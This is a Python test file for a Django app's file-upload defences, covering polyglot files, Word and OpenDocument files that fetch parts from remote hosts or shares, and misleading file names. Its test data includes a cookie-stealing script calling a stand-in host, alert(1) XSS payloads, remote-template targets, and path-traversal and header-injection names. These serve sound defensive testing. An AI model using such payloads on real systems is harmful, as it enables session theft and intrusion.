"""Documents that are not what they say: polyglots, parts fetched from elsewhere, names that mislead.

Each is refused with a sentence beside ``file``, or kept and handed out so that it runs nothing here.
"""

import io
from pathlib import Path

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone, translation

from liqaa.access.actions import create_account
from liqaa.access.models import Account
from liqaa.files.actions import store
from liqaa.files.documents import response_for
from liqaa.files.models import StoredFile
from liqaa.files.rules.outside import is_elsewhere
from liqaa.journal.actions import SYSTEM
from liqaa.kit.refusals import Refused
from liqaa.reports.text.sources import Unreadable, text_of
from tests.hostile import bombs

PAGE = b"<html><script>fetch('//elsewhere.example/'+document.cookie)</script></html>"
RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"

DOCUMENT = "word/_rels/document.xml.rels"
ODT = "application/vnd.oasis.opendocument.text"


@pytest.fixture
def amina(db: None, settings: object, tmp_path: Path) -> Account:
    settings.MEDIA_ROOT = tmp_path
    return create_account(email="amina@example.ma", name="أمينة", by=SYSTEM, at=timezone.now())


def hand_in(account: Account, content: bytes, name: str) -> StoredFile:
    return store(upload=SimpleUploadedFile(name, content), by=account, at=timezone.now())


def heads(stored: StoredFile, account: Account) -> dict[str, str]:
    """What a browser is told when the file is handed out."""
    answer = response_for(stored, of=stored, place="ma", by=account, at=timezone.now())
    answer.close()
    return dict(answer.headers)


def told(content: bytes, name: str) -> str:
    """What the reader of reports makes of it: its text, or the code it is refused by."""
    try:
        return text_of(content, name)
    except Unreadable as trouble:
        return trouble.code


# --- a file that is two kinds at once ----------------------------------------------------------------------

TWO_KINDS = {
    "a PDF that is a page": (b"%PDF-1.7\n<!--\n-->" + PAGE, "x.html", "application/pdf", "pdf"),
    "a PDF that is an archive": (b"%PDF-1.7\n" + bombs.office(), "x.docx", "application/pdf", "pdf"),
    "a PDF that is a script": (b"%PDF-1.7/1;alert(1)//\n%%EOF", "x.js", "application/pdf", "pdf"),
    "a page that is a PDF": (PAGE + b"\n%PDF-1.7\n%%EOF", "x.pdf", "text/plain; charset=utf-8", "txt"),
    "a drawing called a photo": (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "x.png",
        "text/plain; charset=utf-8", "txt",
    ),
    "a photo that is a page": (b"\x89PNG\r\n\x1a\n" + PAGE, "x.png", "", ""),
}  # fmt: skip


@pytest.mark.parametrize(("content", "name", "kind", "ending"), TWO_KINDS.values(), ids=TWO_KINDS)
def test_a_file_of_two_kinds_is_refused_or_handed_out_as_one_that_runs_nothing(
    amina: Account, content: bytes, name: str, kind: str, ending: str
) -> None:
    if not kind:
        with pytest.raises(Refused) as refusal:
            hand_in(amina, content, name)
        assert (refusal.value.field, StoredFile.objects.count()) == ("file", 0)
        return
    stored = hand_in(amina, content, name)
    told_to_browser = heads(stored, amina)
    assert stored.name == f"{name}.{ending}"
    assert told_to_browser["Content-Disposition"] == f'attachment; filename="{stored.name}"'
    assert (told_to_browser["Content-Type"], told_to_browser["X-Content-Type-Options"]) == (kind, "nosniff")
    assert told_to_browser["Content-Security-Policy"].startswith("default-src 'none'")


@pytest.mark.parametrize("name", ["x.docx", "x.html", pytest.param("x.pdf", marks=pytest.mark.slow)])
@pytest.mark.parametrize("other", [bombs.office(), PAGE], ids=["archive", "page"])
def test_a_file_of_two_kinds_is_read_as_words_or_not_at_all(name: str, other: bytes) -> None:
    found = told(b"%PDF-1.7\n" + other, name)
    assert ("<script" in found, "fetch" in found) == (False, False)


# --- a document that fetches a part of itself from elsewhere -----------------------------------------------


def document(kind: str, target: str, *, part: str = DOCUMENT, prefix: str = "", **more: str) -> bytes:
    """A Word document with one relationship that leads outside."""
    named = f"xmlns:{prefix[:-1]}" if prefix else "xmlns"
    relation = (
        f'<{prefix}Relationships {named}="{RELS}"><{prefix}Relationship Id="r9" '
        f'Target="{target}" TargetMode="External" Type="{RELATED}/{kind}"/></{prefix}Relationships>'
    )
    return bombs.office(**{part: relation, **more})


def opened(element: str, target: str, *, part: str = "content.xml") -> bytes:
    """An OpenDocument text with one element that links somewhere."""
    body = f'<x xmlns:xlink="http://www.w3.org/1999/xlink"><y><{element} xlink:href="{target}"/></y></x>'
    return bombs.archive({"mimetype": ODT, part: body})


OUTSIDE = {
    "a picture": document("image", "https://elsewhere.example/pixel.png"),
    "a template": document(
        "attachedTemplate", "http://elsewhere.example/t.dotm", part="word/_rels/settings.xml.rels"
    ),
    "a share": document("attachedTemplate", "\\\\elsewhere.example\\share\\t.dotm"),
    "a share as a file": document("frame", "file://elsewhere.example/share/t.html"),
    "a share of many slashes": document("oleObject", "file:////elsewhere.example/t.rtf"),
    "spaces before it": document("image", " &#10;https://elsewhere.example/pixel.png"),
    "with a prefix": document("image", "https://elsewhere.example/pixel.png", prefix="p:"),
    "a document in the document": document("image", "HTTP://elsewhere", part="word/b/a.rels"),
    "beside the mark of the other kind": document("image", "https://elsewhere.example", mimetype=ODT),
    "a picture of OpenDocument": opened("image", "https://elsewhere.example/pixel.png"),
    "a section of OpenDocument": opened("section-source", "//elsewhere.example/x.odt"),
    "a script of OpenDocument": opened("event-listener", "vnd.sun.star.script:a.b?location=user"),
    "a template of OpenDocument": opened("template", "https://elsewhere.example/t.ott", part="meta.xml"),
}  # fmt: skip
INSIDE = {
    "a link to follow": document("hyperlink", "https://elsewhere.example/"),
    "a workbook asked for": document("externalLinkPath", "https://elsewhere.example/a.xlsx"),
    "a template on the own disk": document("attachedTemplate", "file:///C:\\Users\\amina\\Normal.dotm"),
    "a drive": document("attachedTemplate", "C:\\Users\\amina\\Normal.dotm"),
    "a link of OpenDocument": opened("a", "https://elsewhere.example/"),
    "a picture inside": opened("image", "Pictures/1.png"),
}


@pytest.mark.parametrize("content", OUTSIDE.values(), ids=OUTSIDE)
def test_a_document_that_fetches_a_part_of_itself_is_refused_in_words(amina: Account, content: bytes) -> None:
    with translation.override("en"), pytest.raises(Refused, match="from elsewhere") as refusal:
        hand_in(amina, content, "تقرير.docx")
    assert (refusal.value.field, StoredFile.objects.count()) == ("file", 0)


@pytest.mark.parametrize("content", INSIDE.values(), ids=INSIDE)
def test_links_that_a_reader_follows_are_no_reason(amina: Account, content: bytes) -> None:
    assert hand_in(amina, content, "تقرير.docx").size == len(content)


def test_a_document_as_word_writes_it_is_taken(amina: Account) -> None:
    out = io.BytesIO()
    docx.Document().save(out)
    assert hand_in(amina, out.getvalue(), "تقرير.docx").name == "تقرير.docx"


def test_relations_that_are_no_xml_are_refused(amina: Account) -> None:
    with pytest.raises(Refused):
        hand_in(amina, bombs.office(**{"word/_rels/document.xml.rels": "<Relationships"}), "a.docx")


@pytest.mark.parametrize(
    ("target", "elsewhere"),
    [
        ("media/1.png", False), ("../x.xml", False), ("#here", False), ("C:\\a.dotm", False), ("", False),
        ("file:a.dotm", False), ("file:/a.dotm", False), ("file:///a.dotm", False),
        ("file://host/a", True), ("file:\\\\host\\a", True), ("file:////host/a", True),
        ("file:///%5C%5Chost/a", True), ("/%2Fhost/a", True), ("mhtml:http://host", True), ("FTP://h", True),
    ],
)  # fmt: skip
def test_what_lies_on_another_machine_is_known_by_its_target(target: str, elsewhere: bool) -> None:
    assert is_elsewhere(target) is elsewhere


def test_a_report_is_read_without_fetching_anything(monkeypatch: pytest.MonkeyPatch) -> None:
    def connect(*_arguments: object, **_options: object) -> None:
        raise AssertionError("a document was read over the network")

    monkeypatch.setattr("socket.socket.connect", connect)
    made, out = docx.Document(), io.BytesIO()
    made.add_paragraph("انعقد اللقاء بمقر الحزب")
    made.part.relate_to("http://127.0.0.1:9/pixel.png", f"{RELATED}/image", is_external=True)
    made.part.relate_to("http://127.0.0.1:9/t.dotm", f"{RELATED}/attachedTemplate", is_external=True)
    made.save(out)
    assert told(out.getvalue(), "a.docx").strip() == "انعقد اللقاء بمقر الحزب"


# --- names --------------------------------------------------------------------------------------------------

NAMES = {
    "../../../etc/passwd": "passwd.pdf",
    "..\\..\\a.exe": "a.exe.pdf",
    "تقرير\u202efdp.exe": "تقريرfdp.exe.pdf",
    "a\r\nSet-Cookie: b=c.pdf": "a Set-Cookie: b=c.pdf",
    'a".html;x="b.pdf': 'a".html;x="b.pdf',
    "ا" * 300 + ".pdf": "ا" * 196 + ".pdf",
    "\u200b\u2066.pdf": "pdf.pdf",
    "CON\x00.pdf": "CON.pdf",
    "%2e%2e%2f.pdf": "%2e%2e%2f.pdf",
}


@pytest.mark.parametrize(("name", "kept"), NAMES.items(), ids=range(len(NAMES)))
def test_a_name_that_misleads_is_kept_and_handed_out_as_one_that_does_not(
    amina: Account, name: str, kept: str
) -> None:
    upload = SimpleUploadedFile("a.pdf", b"%PDF-1.7\n")
    upload._name = name  # as a client may send it: Django's own cleaning is not what is looked at
    stored = store(upload=upload, by=amina, at=timezone.now())
    told_to_browser = heads(stored, amina)["Content-Disposition"]
    assert stored.name == kept
    assert told_to_browser.startswith("attachment; filename")
    assert told_to_browser.isascii()
    assert not {"\r", "\n", "\x00"} & set(told_to_browser)
